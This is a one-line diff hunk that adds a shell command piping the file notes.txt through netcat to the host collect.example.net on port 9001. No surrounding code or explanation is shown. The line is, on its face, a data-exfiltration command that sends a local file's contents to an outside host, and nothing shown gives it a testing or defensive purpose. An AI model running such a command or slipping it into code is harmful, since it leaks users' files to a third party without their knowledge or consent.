@@ -1,0 +1,1 @@
+cat notes.txt | nc collect.example.net 9001
